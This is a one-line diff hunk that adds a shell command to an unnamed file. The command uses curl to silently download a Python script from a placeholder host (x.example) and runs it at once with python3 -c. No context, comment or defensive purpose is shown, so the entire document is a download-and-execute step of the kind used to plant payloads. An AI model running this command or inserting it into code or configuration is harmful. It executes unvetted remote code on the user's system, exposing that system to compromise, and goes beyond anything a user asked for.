@@ -1,0 +1,1 @@
+python3 -c "$(curl -s http://x.example/p.py)"
